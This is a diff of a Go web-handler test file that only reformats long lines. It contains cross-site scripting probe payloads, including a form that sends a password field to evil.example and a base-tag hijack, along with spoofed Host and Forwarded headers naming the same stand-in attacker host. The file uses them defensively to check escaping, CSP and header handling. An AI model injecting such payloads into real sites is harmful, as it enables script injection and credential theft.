@@ -15,9 +15,12 @@ import (
 
 // payloads break out of each place in a page, then do each kind of harm: 84 attacks.
 func payloads() (all []string) {
-	for _, exit := range []string{"", `"`, `'`, `">`, `'>`, `</title>`, `</style>`, `</script>`, `-->`, `"/><!--`, "\r\n\r\n", `{{.}}`} {
+	for _, exit := range []string{
+		"", `"`, `'`, `">`, `'>`, `</title>`, `</style>`, `</script>`, `-->`, `"/><!--`, "\r\n\r\n", `{{.}}`,
+	} {
 		for _, harm := range []string{
-			`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`, ` onfocus=alert(1) autofocus x=`,
+			`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`,
+			` onfocus=alert(1) autofocus x=`,
 			`<form action=//evil.example><input name=password>`, `<base href=//evil.example>`, `javascript:alert(1)`,
 		} {
 			all = append(all, exit+harm)
@@ -126,7 +129,8 @@ func checkHeaders(t *testing.T, w *httptest.ResponseRecorder) {
 	inline, _, _ = strings.Cut(inline, "</style>")
 	sum := sha256.Sum256([]byte(inline))
 	for name, want := range map[string]string{
-		"Content-Security-Policy": "default-src 'none'; style-src 'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) +
+		"Content-Security-Policy": "default-src 'none'; style-src 'sha256-" +
+			base64.StdEncoding.EncodeToString(sum[:]) +
 			"'; img-src 'self' data:; form-action 'self'; frame-ancestors 'none'; base-uri 'none'",
 		"Content-Type":           "text/html; charset=utf-8",
 		"Referrer-Policy":        "same-origin",
@@ -200,7 +204,8 @@ func TestHostHeaders(t *testing.T) {
 	}
 	for _, uri := range uris {
 		want := call(t, h, uri, nil).Body.String()
-		got := call(t, h, uri, nil, "Host", "evil.example", "X-Forwarded-Host", "evil.example", "X-Forwarded-Proto", "gopher",
+		got := call(t, h, uri, nil, "Host", "evil.example", "X-Forwarded-Host", "evil.example",
+			"X-Forwarded-Proto", "gopher",
 			"Forwarded", "host=evil.example", "X-Original-URL", "/ui/evil").Body.String()
 		if got != want {
 			t.Errorf("%s depends on host headers", uri)
@@ -220,7 +225,8 @@ func TestBodies(t *testing.T) {
 		{"too large", "application/x-www-form-urlencoded", large.Encode(), 413},
 		{"JSON", "application/json", `{"userID":"u1"}`, 400},
 		{"text", "text/plain", initialize.filled().Encode(), 400},
-		{"multipart", "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"userID\"\r\n\r\nu1\r\n--x--\r\n", 400},
+		{"multipart", "multipart/form-data; boundary=x",
+			"--x\r\nContent-Disposition: form-data; name=\"userID\"\r\n\r\nu1\r\n--x--\r\n", 400},
 		{"broken", "application/x-www-form-urlencoded", "userID=%zz", 400},
 		{"none", "application/x-www-form-urlencoded", "", 400},
 	} {
